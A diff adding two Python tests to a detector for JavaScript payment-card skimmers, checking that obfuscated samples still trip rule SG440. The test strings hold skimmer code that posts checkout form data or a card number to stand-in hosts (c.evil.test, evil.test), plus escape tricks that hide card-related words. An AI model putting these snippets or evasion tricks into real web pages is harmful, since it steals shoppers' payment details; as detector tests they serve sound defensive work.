@@ -786,3 +786,41 @@ def test_a_flattened_skimmer_is_seen_as_written_and_as_reordered(monkeypatch: py
         "}",
     ]
     assert [(h.rule_id, h.severity) for h in structure_hits(reordered.text)] == [("SG440", Severity.CRITICAL)]
+
+
+# -- the cheaper paths see what the full ones see --------------------------------------------------
+
+
+def test_card_words_hidden_in_escaped_literals_give_card_context() -> None:
+    grabber = """
+    var w = ['%s'];
+    document.querySelector('#place-order').addEventListener('click', function () {
+      var data = new FormData(document.querySelector('form'));
+      fetch('https://c.evil.test/f', {method: 'POST', body: data});
+    });
+    """
+    assert rule_ids(grabber % "plain") == []
+    # "cvv" and "カード" behind \\x, \\u, \\u{}, octal escapes and a line continuation, "ſecurity code"
+    # (the long s folds to "s"): each literal alone gives the form grab its card context
+    for hidden in ("\\x63\\u0076\\u{76}", "\\143\\\nvv", "\\u30ab\\u30fc\\u30c9", "\u017fecurity code"):
+        assert rule_ids(grabber % hidden) == ["SG440"], hidden
+
+
+def test_escaped_selectors_and_strings_with_parse_errors() -> None:
+    code = (
+        "document.querySelector('#co').addEventListener('submit', function () {"
+        " var n = document.querySelector('\\x23\\u0063c_\\u{6E}um\\142er').value;"
+        " new Image().src = 'https://evil.test/c?d=' + btoa(n); });"
+    )
+    plain = code.replace("\\x23\\u0063c_\\u{6E}um\\142er", "#cc_number")
+    assert [(h.rule_id, h.severity) for h in structure_hits(code)] == [
+        (h.rule_id, h.severity) for h in structure_hits(plain)
+    ]
+    assert "reads-card-field" in js_traits(code).trait_names
+    # structure_hits skips the per-scope report; the hits are those of js_structure
+    assert structure_hits(code) == js_structure(code)[1]
+    # strings that hold parse errors are walked into: their error bytes count
+    broken = ("var e = ['a\\u{zz}b " + "x" * 30 + "', '\\u12'];\n") * 40 + plain
+    report = js_traits(broken)
+    assert report.parsed and report.error == "parse errors in 64% of the text"
+    assert rule_ids(broken) == ["SG440"]
